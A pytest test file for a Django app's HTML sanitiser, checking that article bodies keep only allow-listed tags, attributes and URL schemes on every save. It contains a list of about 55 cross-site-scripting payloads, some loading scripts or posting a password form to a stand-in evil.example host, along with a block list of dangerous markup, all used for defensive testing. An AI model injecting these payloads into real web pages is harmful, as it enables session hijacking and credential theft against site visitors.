"""The allow-list for stored rich text (richtext/sanitize.py) and the field that
applies it on every save (richtext/fields.py)."""

import re
from html.parser import HTMLParser
from urllib.parse import urlsplit

import pytest

from bulletin.models import Article
from richtext.sanitize import sanitize_html
from tests.factories import ArticleFactory

pytestmark = pytest.mark.django_db

# Written out here rather than imported, so a change to the allow-list has to be a
# change to this test too.
SAFE_TAGS = {
    "p", "br", "hr", "h2", "h3", "h4", "pre", "code", "blockquote",
    "ul", "ol", "li", "strong", "b", "em", "i", "u", "s", "sub", "sup",
    "a", "img", "figure", "figcaption",
    "table", "thead", "tbody", "tfoot", "tr", "th", "td", "caption",
}  # fmt: skip
SAFE_ATTRIBUTES = {
    "a": {"href", "title", "rel"},
    "img": {"src", "alt", "width", "height"},
    "th": {"colspan", "rowspan", "scope"},
    "td": {"colspan", "rowspan"},
}
SAFE_SCHEMES = {"", "http", "https", "mailto"}

# Strings that never appear in sanitised output: markup that runs code, loads
# content from elsewhere or restyles the page, and code-carrying URL schemes.
NEVER_IN_OUTPUT = [
    "<script", "<style", "<iframe", "<frame", "<object", "<embed", "<form", "<input",
    "<button", "<textarea", "<meta", "<link", "<base", "<svg", "<math", "<video",
    "<source", "<details", "<body", "<!--", "javascript:", "vbscript:", "data:",
    "style=", "expression(", "srcdoc", "xlink:", "target=", "\x00",
]  # fmt: skip
EVENT_HANDLER = re.compile(r"\son[a-z]+\s*=", re.IGNORECASE)


HOSTILE = {
    "script": "<script>alert(1)</script>",
    "script-upper-src": "<SCRIPT SRC=//evil.example/x.js></SCRIPT>",
    "script-split": "<scr<script>ipt>alert(1)</script>",
    "script-in-p": "<p>Hi<script>alert(1)</script></p>",
    "img-onerror": "<img src=x onerror=alert(1)>",
    "body-onload": "<body onload=alert(1)><p>x</p></body>",
    "p-onclick": '<p onclick="alert(1)">click</p>',
    "a-onmouseover": '<a href="https://ok.example/" onmouseover="alert(1)">x</a>',
    "details-ontoggle": "<details open ontoggle=alert(1)><summary>x</summary></details>",
    "video-source-onerror": "<video><source onerror=alert(1)></video>",
    "a-javascript": '<a href="javascript:alert(1)">x</a>',
    "a-javascript-mixed-case": '<a href="JaVaScRiPt:alert(1)">x</a>',
    "a-javascript-space": '<a href="  javascript:alert(1)">x</a>',
    "a-javascript-tab": '<a href="java\tscript:alert(1)">x</a>',
    "a-javascript-entity-tab": '<a href="java&#x09;script:alert(1)">x</a>',
    "a-javascript-decimal-entity": '<a href="&#106;avascript:alert(1)">x</a>',
    "a-javascript-hex-entities": (
        '<a href="&#x6A;&#x61;&#x76;&#x61;&#x73;&#x63;&#x72;&#x69;&#x70;&#x74;&#x3A;alert(1)">x</a>'
    ),
    "a-javascript-no-semicolon": (
        '<a href="&#0000106&#0000097&#0000118&#0000097&#0000115&#0000099&#0000114'
        '&#0000105&#0000112&#0000116&#0000058alert(1)">x</a>'
    ),
    "a-vbscript": '<a href="vbscript:msgbox(1)">x</a>',
    "a-data-html": '<a href="data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==">x</a>',
    "img-javascript": '<img src="javascript:alert(1)">',
    "img-data-svg": '<img src="data:image/svg+xml;base64,PHN2ZyBvbmxvYWQ9YWxlcnQoMSk+">',
    "img-vbscript": '<img src="vbscript:msgbox(1)">',
    "style-attr-url": '<p style="background:url(javascript:alert(1))">x</p>',
    "style-attr-expression": '<p style="width: expression(alert(1))">x</p>',
    "style-block": '<style>body{background:url("javascript:alert(1)")}</style><p>x</p>',
    "style-block-import": "<style>@import 'https://evil.example/x.css';</style>",
    "svg-onload": "<svg onload=alert(1)>",
    "svg-script": "<svg><script>alert(1)</script></svg>",
    "svg-xlink": '<svg><a xlink:href="javascript:alert(1)"><text>x</text></a></svg>',
    "math-mxss": "<math><mtext><table><mglyph><style><img src=x onerror=alert(1)>",
    "noscript-mxss": '<noscript><p title="</noscript><img src=x onerror=alert(1)>"></noscript>',
    "iframe": '<iframe src="https://evil.example/"></iframe>',
    "iframe-srcdoc": '<iframe srcdoc="<script>alert(1)</script>"></iframe>',
    "object": '<object data="evil.swf" type="application/x-shockwave-flash"></object>',
    "embed": '<embed src="evil.swf">',
    "form": (
        '<form action="https://evil.example/"><input name="password"><button>Go</button></form>'
    ),
    "input-autofocus": "<input autofocus onfocus=alert(1)>",
    "meta-refresh": '<meta http-equiv="refresh" content="0;url=javascript:alert(1)">',
    "link-stylesheet": '<link rel="stylesheet" href="javascript:alert(1)">',
    "base-href": '<base href="javascript:alert(1)//">',
    "table-background": '<table background="javascript:alert(1)"><tr><td>x</td></tr></table>',
    "unclosed-img": "<img src=x onerror=alert(1)",
    "unclosed-a": '<a href="javascript:alert(1)"',
    "unclosed-script": "<p>x</p><script>alert(1)",
    "broken-nesting": "<p><b><i>x</p></b><script>alert(1)</i>",
    "comment-script": "<p>text<!-- <script>alert(1)</script> --></p>",
    "conditional-comment": "<!--[if IE]><script>alert(1)</script><![endif]-->",
    "comment-breakout": "<!-- --!><img src=x onerror=alert(1)> -->",
    "nul-in-tag": "<scr\x00ipt>alert(1)</scr\x00ipt>",
    "nul-in-scheme": '<a href="java\x00script:alert(1)">x</a>',
    "nul-in-attribute": '<img src="x" o\x00nerror="alert(1)">',
    "textarea": "<textarea><script>alert(1)</script></textarea>",
    "attribute-quote-breakout": '<img src="x" alt="x" onerror="alert(1)"/>',
    "a-target-blank": '<a href="https://evil.example/" target="_blank">x</a>',
}


class TagCollector(HTMLParser):
    """Every start tag of a fragment with its attributes, as a browser reads them."""

    def __init__(self):
        super().__init__(convert_charrefs=True)
        self.tags = []

    def handle_starttag(self, tag, attrs):
        self.tags.append((tag, dict(attrs)))

    handle_startendtag = handle_starttag


def assert_harmless(html):
    lowered = html.lower()
    for needle in NEVER_IN_OUTPUT:
        assert needle not in lowered, f"{needle!r} survived in {html!r}"
    assert not EVENT_HANDLER.search(html), html
    collector = TagCollector()
    collector.feed(html)
    collector.close()
    for tag, attributes in collector.tags:
        assert tag in SAFE_TAGS, html
        assert set(attributes) <= SAFE_ATTRIBUTES.get(tag, set()), html
        for name in ("href", "src"):
            if name in attributes:
                # Browsers drop tabs, newlines and leading spaces before reading a scheme.
                url = re.sub(r"[\s\x00-\x1f]", "", attributes[name] or "")
                assert urlsplit(url).scheme.lower() in SAFE_SCHEMES, html


def test_the_corpus_is_large_enough():
    assert len(HOSTILE) >= 30


@pytest.mark.parametrize("payload", HOSTILE.values(), ids=HOSTILE.keys())
def test_nothing_dangerous_survives(payload):
    clean = sanitize_html(payload)
    assert_harmless(clean)
    # Sanitising what is already clean changes nothing (a second save is a no-op).
    assert sanitize_html(clean) == clean


@pytest.mark.parametrize("payload", HOSTILE.values(), ids=HOSTILE.keys())
def test_an_article_body_is_sanitised_when_saved(payload):
    body = f"<p>Before</p>{payload}<p>After</p>"
    article = ArticleFactory(body=body)
    stored = Article.objects.values_list("body", flat=True).get(pk=article.pk)
    assert_harmless(stored)
    assert stored.startswith("<p>Before</p>")
    assert stored == sanitize_html(body)
    # The instance holds what was stored, not the hostile original.
    assert article.body == stored


@pytest.mark.parametrize(
    ("payload", "expected"),
    [
        ("<p onclick=\"alert(1)\">Hi<script>alert('x')</script></p>", "<p>Hi</p>"),
        ('<img src="/media/a.png" onerror="alert(1)">', '<img src="/media/a.png">'),
        ('<a href="javascript:alert(1)">x</a>', '<a rel="noopener noreferrer">x</a>'),
        ('<p style="color:red">red</p>', "<p>red</p>"),
        ("<p>text<!-- secret note --></p>", "<p>text</p>"),
        ("<p>a\x00b</p>", "<p>ab</p>"),
        ("<textarea><script>alert(1)</script></textarea>", "&lt;script&gt;alert(1)&lt;/script&gt;"),
        ("<scr<script>ipt>alert(1)</script>", "ipt&gt;alert(1)"),
    ],
    ids=[
        "handler-and-script",
        "img-handler",
        "js-link",
        "style",
        "comment",
        "nul",
        "rcdata",
        "split",
    ],
)
def test_what_is_left_of_hostile_markup(payload, expected):
    assert sanitize_html(payload) == expected


def test_unknown_markup_is_dropped_but_its_text_kept():
    html = (
        '<span style="color:red">red</span><div class="box"><p id="x">para</p></div>'
        "<h1>Big</h1><font color=red>old</font>"
    )
    assert sanitize_html(html) == "red<p>para</p>Bigold"


GOOD_EDITOR_OUTPUT = """<h2>Heading</h2>
<p>Some <strong>bold</strong>, <em>italic</em>, <u>under</u>, <s>gone</s>, H<sub>2</sub>O, \
x<sup>2</sup> &amp; more&nbsp;text, 中文 “quotes”.</p>
<p><img alt="A photo" height="200" src="/media/uploads/2024/05/01/photo.png" width="300"></p>
<figure><img src="uploads/a.jpg" alt=""><figcaption>Caption</figcaption></figure>
<table><caption>Scores</caption><thead><tr><th scope="col">Name</th><th scope="col">Score</th>\
</tr></thead><tbody><tr><td colspan="2">Total</td></tr><tr><td rowspan="2">a</td><td>1</td>\
</tr></tbody><tfoot><tr><td>x</td><td>y</td></tr></tfoot></table>
<ul><li>one<ul><li>nested</li></ul></li><li>two</li></ul>
<ol><li>first</li><li>second</li></ol>
<blockquote><p>Quoted</p></blockquote>
<pre><code>print(1 &lt; 2)</code></pre>
<hr>
<p>line<br>break</p>
<h3>Three</h3><h4>Four</h4><p><b>b</b> <i>i</i></p>"""


def test_good_editor_output_is_kept_intact():
    assert sanitize_html(GOOD_EDITOR_OUTPUT) == GOOD_EDITOR_OUTPUT


def test_good_editor_output_is_kept_when_an_article_is_saved():
    article = ArticleFactory(body=GOOD_EDITOR_OUTPUT)
    article.refresh_from_db()
    assert article.body == GOOD_EDITOR_OUTPUT


def test_external_links_get_noopener_noreferrer():
    html = '<p><a href="https://example.com/page?a=1&amp;b=2" title="Example">external</a></p>'
    assert sanitize_html(html) == (
        '<p><a href="https://example.com/page?a=1&amp;b=2" title="Example" '
        'rel="noopener noreferrer">external</a></p>'
    )


def test_a_rel_or_target_from_the_input_is_replaced():
    html = '<a href="https://example.com/" rel="opener" target="_blank">x</a>'
    assert sanitize_html(html) == '<a href="https://example.com/" rel="noopener noreferrer">x</a>'


@pytest.mark.parametrize(
    "href",
    ["/bulletin/local-news/", "../relative/", "#section", "mailto:editor@example.com"],
)
def test_relative_and_mailto_links_are_kept(href):
    clean = sanitize_html(f'<a href="{href}">x</a>')
    assert f'href="{href}"' in clean


@pytest.mark.parametrize("href", ["ftp://example.com/file", "tel:+100", "file:///etc/passwd"])
def test_other_schemes_lose_their_link(href):
    assert sanitize_html(f'<a href="{href}">x</a>') == '<a rel="noopener noreferrer">x</a>'


@pytest.mark.parametrize("value", ["", None])
def test_an_empty_body_is_stored_as_empty_text(value):
    article = ArticleFactory(body=value)
    article.refresh_from_db()
    assert article.body == ""


def test_the_body_is_sanitised_again_on_every_later_save():
    article = ArticleFactory(body="<p>Clean</p>")
    article.body = '<p>Edited<img src=x onerror="alert(1)"></p>'
    article.save()
    assert article.body == '<p>Edited<img src="x"></p>'
    article.body = "<p>Again<script>alert(1)</script></p>"
    article.save(update_fields=["body"])
    article.refresh_from_db()
    assert article.body == "<p>Again</p>"


def test_objects_create_is_sanitised_too():
    section = ArticleFactory().section
    article = Article.objects.create(
        title="Made directly", section=section, body="<p>x<iframe src=//evil></iframe></p>"
    )
    assert Article.objects.values_list("body", flat=True).get(pk=article.pk) == "<p>x</p>"
